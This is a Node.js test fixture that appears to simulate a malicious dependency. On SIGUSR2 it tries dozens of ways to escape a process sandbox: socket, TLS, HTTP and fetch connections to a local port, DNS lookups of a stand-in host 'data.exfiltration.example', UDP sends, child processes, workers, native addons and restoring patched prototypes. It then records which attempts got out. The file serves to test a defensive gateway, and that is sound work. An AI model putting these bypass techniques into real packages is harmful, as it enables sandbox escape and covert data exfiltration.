/**
 * A module that a dependency could be: loaded before the program, it keeps functions of Node for later, and when it is told
 * (SIGUSR2) tries every way out of the process. What came of each is written to the file HOSTILE_OUT.
 */

import childProcess, { ChildProcess, execSync, fork, spawn, spawnSync } from "node:child_process";
import dgram from "node:dgram";
import dns, { lookup } from "node:dns";
import { renameSync, writeFileSync } from "node:fs";
import http from "node:http";
import http2 from "node:http2";
import https from "node:https";
import { createRequire, register } from "node:module";
import net from "node:net";
import tls from "node:tls";
import { Worker } from "node:worker_threads";
import Client from "undici/lib/dispatcher/client.js";

const port = Number(process.env.HOSTILE_PORT);
const allowed = Number(process.env.ALLOWED_PORT);
const early = {
  connect: net.Socket.prototype.connect,
  send: dgram.Socket.prototype.send,
  lookup,
  promised: dns.promises.resolve4,
  fetch: globalThis.fetch,
  spawn,
  spawnSync,
  Worker,
  processSpawn: ChildProcess.prototype.spawn,
};
const require = createRequire(import.meta.url);

const told = (error) => error?.cause?.code ?? error?.code ?? error?.name ?? String(error);

/** Resolves to "out" if something got out. */
const event = (emitter, out) =>
  new Promise((resolve) => {
    emitter.on("error", (error) => resolve(told(error)));
    emitter.once(out, () => resolve("out"));
  });

const promised = (promise) => promise.then(() => "out", told);
const called = (start) => new Promise((resolve) => start((error) => resolve(error ? told(error) : "out")));
const thrown = async (run) => {
  try {
    const result = run();
    return result?.error === undefined ? "out" : told(result.error);
  } catch (error) {
    return told(error);
  }
};

/** With the connections that a client of its own makes: the gateway takes no more of this package than its parser. */
const undici = (host) =>
  new Promise((resolve) => {
    new Client(`http://${host}:${port}`).dispatch(
      { path: "/", method: "GET" },
      {
        onRequestStart: () => resolve("out"),
        onResponseStart: () => resolve("out"),
        onResponseError: (_, error) => resolve(told(error)),
      },
    );
  });

const udpSocket = (lookup) => dgram.createSocket({ type: "udp4", ...(lookup && { lookup }) }).unref();

const tries = {
  net: () => event(net.connect(port, "127.0.0.1"), "connect"),
  netOptions: () => event(net.connect({ port, host: "::ffff:127.0.0.1" }), "connect"),
  netName: () => event(net.connect(port, "localhost"), "connect"),
  netOwnLookup: () =>
    event(
      net.connect({
        port: allowed,
        host: "localhost",
        autoSelectFamily: false,
        lookup: (_name, _options, done) => done(null, "127.0.0.2", 4),
      }),
      "connect",
    ),
  netKept: () => {
    const socket = new net.Socket();
    const ended = event(socket, "connect");
    early.connect.call(socket, port, "127.0.0.1");
    return ended;
  },
  netRequired: () => event(require("node:net").createConnection({ port, host: "127.0.0.1" }), "connect"),
  unix: () => event(net.connect("/tmp/countersign-hostile.sock"), "connect"),
  tls: () => event(tls.connect(port, "127.0.0.1"), "secureConnect"),
  http: () => event(http.get(`http://127.0.0.1:${port}/`), "response"),
  https: () => event(https.get(`https://127.0.0.1:${port}/`), "response"),
  http2: () => event(http2.connect(`http://127.0.0.1:${port}`), "connect"),
  fetch: () => promised(fetch(`http://127.0.0.1:${port}/`)),
  fetchKept: () => promised(early.fetch(`http://127.0.0.1:${port}/`)),
  fetchOtherPath: () => promised(fetch(`http://127.0.0.1:${port}/`, { redirect: "follow" })),
  undici: () => undici("127.0.0.1"),
  undiciName: () => undici("localhost"),
  lookup: () => called((done) => dns.lookup("data.exfiltration.example", done)),
  lookupNamed: () => called((done) => lookup("data.exfiltration.example", done)),
  lookupKept: () => called((done) => early.lookup("data.exfiltration.example", done)),
  lookupPromised: () => promised(dns.promises.lookup("data.exfiltration.example")),
  resolve: () => called((done) => dns.resolve4("data.exfiltration.example", done)),
  resolveTxt: () => promised(new dns.promises.Resolver().resolveTxt("data.exfiltration.example")),
  resolveKept: () => promised(early.promised("data.exfiltration.example")),
  resolverServers: () => {
    const resolver = new dns.Resolver();
    resolver.setServers([`127.0.0.1:${port}`]);
    return called((done) => resolver.resolve4("data.exfiltration.example", done));
  },
  udp: () => called((done) => udpSocket().on("error", done).send("x", port, "127.0.0.1", done)),
  udpKept: () => called((done) => early.send.call(udpSocket().on("error", done), "x", port, "127.0.0.1", done)),
  udpOwnLookup: () => {
    const own = (_name, _options, done) => done(null, "127.0.0.1", 4);
    const socket = udpSocket(own);
    return called((done) => socket.on("error", done).send("x", port, "127.0.0.1", done));
  },
  udpConnect: () => called((done) => udpSocket().on("error", done).connect(port, "127.0.0.1", done)),
  spawn: () => event(spawn("/bin/true"), "spawn"),
  spawnKept: () => event(early.spawn("/bin/true"), "spawn"),
  fork: () => event(fork("/dev/null"), "spawn"),
  spawnSync: () => thrown(() => childProcess.spawnSync("/bin/true")),
  spawnSyncNamed: () => thrown(() => spawnSync("/bin/true")),
  spawnSyncKept: () => thrown(() => early.spawnSync("/bin/true")),
  execSync: () => thrown(() => execSync("true")),
  worker: () => thrown(() => new Worker("0", { eval: true })),
  workerRequired: () => thrown(() => new (require("node:worker_threads").Worker)("0", { eval: true })),
  workerKept: () => thrown(() => new early.Worker("0", { eval: true })),
  workerHooks: () => thrown(() => register("data:text/javascript,export {}")),
  binding: () => thrown(() => process.binding("tcp_wrap")),
  addon: () => thrown(() => require(process.env.HOSTILE_ADDON)),
  addonOpened: () => thrown(() => process.dlopen({ exports: {} }, process.env.HOSTILE_ADDON)),
  putBack: () =>
    thrown(() => {
      net.Socket.prototype.connect = early.connect;
    }),
  control: () => event(net.connect(allowed, "127.0.0.1").unref(), "connect"),
};

process.on("SIGUSR2", () => void attemptAll());

async function attemptAll() {
  const entries = await Promise.all(
    Object.entries(tries).map(async ([name, attempt]) => {
      const late = new Promise((resolve) => setTimeout(() => resolve("silence"), 10_000).unref());
      return [name, await Promise.race([Promise.resolve().then(attempt).catch(told), late])];
    }),
  );
  writeFileSync(`${process.env.HOSTILE_OUT}.tmp`, JSON.stringify(Object.fromEntries(entries)));
  renameSync(`${process.env.HOSTILE_OUT}.tmp`, process.env.HOSTILE_OUT);
}
